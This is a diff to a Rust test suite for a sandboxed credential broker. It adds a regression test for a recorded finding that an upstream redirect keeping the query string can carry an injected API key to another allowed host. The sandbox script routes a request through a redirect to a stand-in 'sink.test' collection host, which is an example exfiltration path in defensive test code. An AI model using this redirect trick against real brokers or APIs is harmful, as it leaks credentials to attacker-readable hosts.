@@ -35,6 +35,10 @@ const SECRET: &str = "ghp_R8evw8Tok3nXyZaBcDeFgHiJkLmNoPqRs0AZ";
 /// (fake, made for this file): the characters percent-encoders disagree on (`!*'()~`).
 const SYMBOL_SECRET: &str = "Qz7!mK*2(pL~9)wX'4rT!8*nB~e";
 
+/// The credential of integration `q` (the `api_key` query parameter, host `echo.test`)
+/// in the redirect world: fake, made for this file.
+const QUERY_SECRET: &str = "qk_8mZr2Lw9Xc4Tn7Vb1Hs6Jd3Fg5Ky0PeW";
+
 /// An HTTPS upstream on `addr`:443 that reflects the request's `Authorization` header:
 /// - `/bytes?fmt=F`: the header's bytes as a byte array, the way server software prints
 ///   one: `node_json` (`JSON.stringify` of a Node `Buffer`), `py_list` (Python's
@@ -51,6 +55,10 @@ const SYMBOL_SECRET: &str = "Qz7!mK*2(pL~9)wX'4rT!8*nB~e";
 ///   `A-Za-z0-9-_.!~*'()`), `form` (`URLSearchParams` and Java's `URLEncoder`: keeps
 ///   `A-Za-z0-9-_.*`, space as `+`), `php` (PHP's `urlencode`: keeps `A-Za-z0-9-_.`,
 ///   space as `+`), `py` (Python's `quote`: keeps `A-Za-z0-9-_.~/`);
+/// - `/go?to=URL&…`: a 302 to `URL` with the request's whole query string appended, as
+///   an endpoint that moved (or a login or tracking redirect) keeps it;
+/// - on host `sink.test`, anything: `ok` (a host of the policy's `allow_domains`, which
+///   the sandbox reads: a paste or webhook-inspection service, a bucket it lists);
 /// - `/slice?off=O&len=N`: the header's characters from `O`, `N` of them, as an API
 ///   gateway's mapping template (`$input.params('Authorization').substring(O, O+N)`)
 ///   or any API with an expression language over the request does.
@@ -100,9 +108,18 @@ class H(http.server.BaseHTTPRequestHandler):
         u = urllib.parse.urlparse(self.path)
         q = {k: v[0] for k, v in urllib.parse.parse_qs(u.query).items()}
         auth = self.headers.get("authorization", "")
+        host = self.headers.get("host", "")
         with open(log, "a") as f:
-            f.write(json.dumps({"path": self.path, "auth": auth}) + "\n")
-        if u.path == "/bytes":
+            f.write(json.dumps({"host": host, "path": self.path, "auth": auth}) + "\n")
+        if host.startswith("sink.test"):
+            self.answer("ok\n")
+        elif u.path == "/go":
+            to = q["to"]
+            self.send_response(302)
+            self.send_header("Location", to + ("&" if "?" in to else "?") + u.query)
+            self.send_header("Content-Length", "0")
+            self.end_headers()
+        elif u.path == "/bytes":
             self.answer("you sent: %s\n" % BYTES[q["fmt"]](auth.encode()))
         elif u.path == "/header":
             self.answer("", [("X-Debug", HEADER[q["enc"]](auth))])
@@ -138,11 +155,18 @@ impl World {
     }
 
     fn with_secret(name: &str, secret: &'static str) -> Self {
+        Self::build(name, secret, false)
+    }
+
+    /// With `redirects`: `broker.follow_redirects` on, integration `q` (the `api_key`
+    /// query parameter, host `echo.test`, credential [`QUERY_SECRET`]) bound to `web` as
+    /// well, and `sink.test` (the same server) in `web`'s `allow_domains`.
+    fn build(name: &str, secret: &'static str, redirects: bool) -> Self {
         hb_tests::require_root();
         private_netns(&["203.0.113.10"]);
         let dir = std::env::temp_dir().join(format!("hb-review8-{name}-{}", std::process::id()));
         let ca = TestCa::new(&dir, "trusted");
-        let leaf: Leaf = ca.issue("echo", &["echo.test"]);
+        let leaf: Leaf = ca.issue("echo", &["echo.test", "sink.test"]);
         let log = dir.join("reflect.jsonl");
         std::fs::write(&log, "").expect("log");
         let script = format!(
@@ -155,7 +179,10 @@ impl World {
         let dns = Dnsmasq::start(
             "127.0.0.1",
             DNS_PORT,
-            &[("echo.test", &["203.0.113.10"])],
+            &[
+                ("echo.test", &["203.0.113.10"]),
+                ("sink.test", &["203.0.113.10"]),
+            ],
             &[],
             60,
         );
@@ -167,15 +194,39 @@ name = "e"
 auth = "bearer"
 hosts = ["echo.test"]
 methods = ["GET"]
-
+{q}
 [[policy]]
 name = "web"
-integrations = ["e"]
+integrations = ["e"{q_bound}]
+{reach}
 "#,
-            head = hb_tests::tls_broker_config(&ca.cert, DNS_PORT, ""),
+            head = hb_tests::tls_broker_config(
+                &ca.cert,
+                DNS_PORT,
+                if redirects {
+                    "follow_redirects = true\n"
+                } else {
+                    ""
+                }
+            ),
+            q = if redirects {
+                "\n[[integration]]\nname = \"q\"\nauth = { query = \"api_key\" }\nhosts = [\"echo.test\"]\nmethods = [\"GET\"]\n"
+            } else {
+                ""
+            },
+            q_bound = if redirects { ", \"q\"" } else { "" },
+            reach = if redirects {
+                "allow_domains = [\"sink.test\"]"
+            } else {
+                ""
+            },
         );
         let mut env = TestEnv::new(name, &config);
-        env.init_vault(&[("e", "bot", secret)]);
+        if redirects {
+            env.init_vault(&[("e", "bot", secret), ("q", "bot", QUERY_SECRET)]);
+        } else {
+            env.init_vault(&[("e", "bot", secret)]);
+        }
         env.start_agent();
         Self {
             secret,
@@ -440,4 +491,57 @@ print(json.dumps(out))
         leaked.is_empty(),
         "the credential came back to the caller percent-encoded by {leaked:?}"
     );
+}
+
+// FINDING: with `broker.follow_redirects` on, an upstream's redirect that keeps the
+// query string (an endpoint that moved, a login or tracking redirect) carries a query
+// credential to another host: `broker/outbound/mod.rs::Carry::redirect` drops the
+// credential the broker added (the `api_key` parameter it appends) when a hop leaves
+// the integration, but the `Location` the upstream wrote already holds it, and
+// `Decision::hop` judges the hop's host, scheme and port only. Any host the policy's
+// `allow_domains` names (which the sandbox can reach, and read back from) receives it.
+/// A redirect whose `Location` holds the call's credential is not followed to a host
+/// outside the integration.
+#[test]
+fn a_redirect_that_keeps_the_query_does_not_carry_the_credential_to_another_host() {
+    let w = World::build("review8-redirect", SECRET, true);
+    let got = w.in_sandbox(
+        r#"
+q = hb.handle("q", "bot")["handle"]
+r = attempt(lambda: hb.request("GET", "https://echo.test/go?to=https://sink.test/landed", handle=q))
+print(json.dumps({"status": r.get("status"), "error": r.get("error")}))
+"#,
+    );
+    let records: Vec<Value> = std::fs::read_to_string(&w.log)
+        .expect("log")
+        .lines()
+        .map(|l| serde_json::from_str(l).expect("record"))
+        .collect();
+    let at_echo = records
+        .iter()
+        .filter(|r| {
+            r["host"]
+                .as_str()
+                .is_some_and(|h| h.starts_with("echo.test"))
+                && r["path"].as_str().is_some_and(|p| p.contains(QUERY_SECRET))
+        })
+        .count();
+    let at_sink = records
+        .iter()
+        .filter(|r| {
+            r["host"]
+                .as_str()
+                .is_some_and(|h| h.starts_with("sink.test"))
+                && r["path"].as_str().is_some_and(|p| p.contains(QUERY_SECRET))
+        })
+        .count();
+    println!(
+        "figure: the caller got status {} error {}; the credential reached sink.test in {at_sink} request(s)",
+        got["status"], got["error"]
+    );
+    assert_eq!(
+        at_echo, 1,
+        "the credential did not reach echo.test: {records:?}"
+    );
+    assert_eq!(at_sink, 0, "the credential reached sink.test");
 }
